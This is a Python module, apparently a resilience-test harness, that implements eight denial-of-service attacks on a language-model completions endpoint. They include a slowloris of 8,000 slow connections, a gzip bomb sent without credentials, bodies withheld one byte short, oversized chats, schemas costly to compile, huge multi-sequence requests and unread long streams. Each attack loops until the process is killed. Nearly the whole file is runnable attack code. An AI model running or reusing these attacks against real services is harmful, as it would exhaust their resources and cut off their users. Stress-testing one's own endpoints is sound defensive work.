"""What strangers and bad tenants do to an endpoint, each as a coroutine that goes on until it is cancelled.

The numbers are those of the attacks that were once seen to work. None of them minds being refused: it tries again.
"""

import asyncio
import contextlib
import gzip
import itertools
import json
import resource
from collections.abc import Awaitable, Callable
from dataclasses import dataclass
from typing import Any

PAUSE_SECONDS = 0.2
BODY_BYTES = 4 * 1024 * 1024
SILENT_CONNECTIONS = 8000


@dataclass(frozen=True, slots=True)
class Target:
    host: str
    port: int
    model: str
    api_key: str
    """The attacking tenant's."""


def build_head(target: Target, length: int, *more: str, path: str = "/v1/completions", key: bool = True) -> bytes:
    lines = [f"POST {path} HTTP/1.1", f"Host: {target.host}", "Content-Type: application/json", *more]
    lines += [f"Authorization: Bearer {target.api_key}"] if key else []
    return "\r\n".join([*lines, f"Content-Length: {length}", "", ""]).encode()


async def post(target: Target, head: bytes, body: bytes, *, read: bool = True, hold_seconds: float = 0.0) -> None:
    """Sends, waits, reads until the other side closes or has said all of a short answer."""
    reader, writer = await asyncio.open_connection(target.host, target.port)
    try:
        writer.write(head + body)
        await writer.drain()
        if read:
            await reader.read(65536)
        await asyncio.sleep(hold_seconds)
    finally:
        writer.transport.abort()


async def repeat(count: int, once: Callable[[int], Awaitable[None]]) -> None:
    """Runs `count` at a time, for ever."""

    async def go_on(number: int) -> None:
        while True:
            with contextlib.suppress(OSError):
                await once(number)
            await asyncio.sleep(PAUSE_SECONDS)

    await asyncio.gather(*(go_on(number) for number in range(count)))


async def ask_many_sequences(target: Target) -> None:
    """Asks for 16 answers of 2,000 tokens to each of 64 prompts, again as soon as the last request has ended."""
    fields: dict[str, Any] = {"model": target.model, "prompt": ["x"] * 64, "n": 16, "max_tokens": 2000}
    body = json.dumps(fields | {"ignore_eos": True}).encode()
    await repeat(1, lambda _: post(target, build_head(target, len(body)), body))


async def withhold_last_bytes(target: Target) -> None:
    """Sends and holds 150 bodies of 4 MiB, each one byte short."""
    body = b" " * (BODY_BYTES - 1)
    await repeat(150, lambda _: post(target, build_head(target, BODY_BYTES), body, read=False, hold_seconds=30))


async def send_huge_chats(target: Target) -> None:
    """Sends 8 chats at a time of the maximum size of a body, far above any context."""
    text = "lorem ipsum dolor sit amet " * (BODY_BYTES // 28)
    body = json.dumps({"model": target.model, "messages": [{"role": "user", "content": text}]}).encode()
    head = build_head(target, len(body), path="/v1/chat/completions")
    await repeat(8, lambda _: post(target, head, body))


async def ask_hostile_schemas(target: Target) -> None:
    """Asks for answers under schemas that take too long to compile, each a new one, 16 at a time."""
    numbers = itertools.count(9_999_991)

    async def ask(_: int) -> None:
        schema = {"type": "integer", "multipleOf": next(numbers)}
        body = json.dumps({"model": target.model, "prompt": "x", "guided_json": schema}).encode()
        await post(target, build_head(target, len(body)), body)

    await repeat(16, ask)


async def send_gzip(target: Target) -> None:
    """Sends 1 MB of gzip that inflates to 1 GB, four at a time, without a key."""
    body = gzip.compress(b" " * 2**30, compresslevel=9)
    head = build_head(target, len(body), "Content-Encoding: gzip", key=False)
    await repeat(4, lambda _: post(target, head, body))


def build_long_stream(target: Target) -> bytes:
    """Returns a body whose answer is long, and large for its log-probabilities."""
    fields: dict[str, Any] = {"model": target.model, "prompt": "x", "max_tokens": 8000, "ignore_eos": True}
    return json.dumps(fields | {"stream": True, "logprobs": 5}).encode()


async def stop_reading(target: Target) -> None:
    """Asks for 16 streams of long answers and never reads."""
    body = build_long_stream(target)
    await repeat(16, lambda _: post(target, build_head(target, len(body)), body, read=False, hold_seconds=600))


async def read_all(target: Target) -> None:
    """Reads the same streams, which is no attack: the difference is what not reading costs beyond such answers."""
    body = build_long_stream(target)

    async def ask(_: int) -> None:
        reader, writer = await asyncio.open_connection(target.host, target.port)
        try:
            writer.write(build_head(target, len(body), "Connection: close") + body)
            while await reader.read(65536):
                pass
        finally:
            writer.transport.abort()

    await repeat(16, ask)


async def stay_silent(target: Target) -> None:
    """Opens 8,000 connections: half say nothing, half a line of a header every second."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (max(soft, min(hard, 4 * SILENT_CONNECTIONS)), hard))

    async def connect(number: int) -> None:
        reader, writer = await asyncio.open_connection(target.host, target.port)
        try:
            if number % 2:
                writer.write(b"POST /v1/completions HTTP/1.1\r\n")
            while not reader.at_eof() and not writer.is_closing():
                if number % 2:
                    writer.write(b"X-Slow: 1\r\n")
                with contextlib.suppress(TimeoutError):
                    await asyncio.wait_for(reader.read(4096), 1.0)
        finally:
            writer.transport.abort()

    await repeat(SILENT_CONNECTIONS, connect)


ATTACKS: dict[str, Callable[[Target], Awaitable[None]]] = {
    "many-sequences": ask_many_sequences,
    "unfinished-bodies": withhold_last_bytes,
    "huge-chats": send_huge_chats,
    "hostile-schemas": ask_hostile_schemas,
    "gzip": send_gzip,
    "long-streams": read_all,
    "not-reading": stop_reading,
    "silent-connections": stay_silent,
}


def run_attack(name: str, target: Target) -> None:
    """Attacks until the process is killed."""
    asyncio.run(_attack(name, target))


async def _attack(name: str, target: Target) -> None:
    await ATTACKS[name](target)
